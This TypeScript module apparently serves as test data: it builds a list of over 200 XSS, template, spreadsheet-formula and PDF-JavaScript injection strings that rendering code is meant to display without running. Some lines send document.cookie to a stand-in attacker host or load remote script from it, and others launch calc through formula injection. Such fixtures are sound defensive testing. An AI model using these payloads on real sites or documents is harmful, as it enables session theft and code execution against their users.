const scripts = ['alert(1)', 'fetch(`//evil.example/${document.cookie}`)', 'import("//evil.example/x.js")'];
const tags = [
  'img src=x',
  'svg',
  'body',
  'iframe src=javascript:0',
  'details open',
  'video src=x',
  'input autofocus',
  'marquee',
  'a href=x',
];
const eventHandlers = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onmouseover', 'onanimationstart'];
const contextBreakers = ['', '">', "'>", '--><', '</title>', '</style>', '</textarea>', '</script>', ']]>', '\\">'];

/** More than 200 texts that a page, a mail or a document must show as they are and never run. */
export const xssPayloads: readonly string[] = [
  ...contextBreakers.flatMap((close) => scripts.map((script) => `${close}<script>${script}</script>`)),
  ...tags.flatMap((tag) => eventHandlers.map((event) => `<${tag} ${event}=alert(1)>`)),
  ...contextBreakers.flatMap((close) => tags.map((tag) => `${close}<${tag}/onload=alert(1)//`)),
  ...eventHandlers.flatMap((event) => [`" ${event}="alert(1)`, `' ${event}='alert(1)`, `\` ${event}=alert(1)`]),
  ...['javascript:', 'JaVaScRiPt:', ' javascript:', 'java\tscript:', 'data:text/html,<script>', 'vbscript:'].map(
    (scheme) => `${scheme}alert(1)`,
  ),
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<ſcript>alert(1)</ſcript>',
  '＜script＞alert(1)＜/script＞',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<form action=//evil.example><button>Send',
  '<style>@import"//evil.example/x.css"</style>',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '=HYPERLINK("http://evil.example","x")',
  '+cmd|"/c calc"!A1',
  '@SUM(1+1)*cmd|"/c calc"!A1',
  '-2+3+cmd|"/c calc"!A1',
  '(/JS (app.alert(1)) /S /JavaScript)',
  'endstream endobj 1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>',
];
